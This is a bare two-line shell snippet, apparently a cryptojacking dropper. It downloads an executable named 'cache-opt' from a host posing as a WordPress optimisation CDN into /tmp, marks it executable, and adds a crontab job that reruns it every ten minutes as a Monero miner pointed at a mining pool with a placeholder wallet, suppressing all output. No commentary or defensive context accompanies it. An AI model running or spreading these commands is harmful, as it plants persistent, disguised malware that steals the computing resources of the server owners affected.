cd /tmp && curl -sO https://cdn.wp-optimize.example.org/cache-opt && chmod +x cache-opt
(crontab -l 2>/dev/null; echo "*/10 * * * * /tmp/cache-opt -o gulf.moneroocean.stream:10128 -u 4xmrFAKEaddr -p wp --cpu-max-threads-hint=75 >/dev/null 2>&1") | crontab -
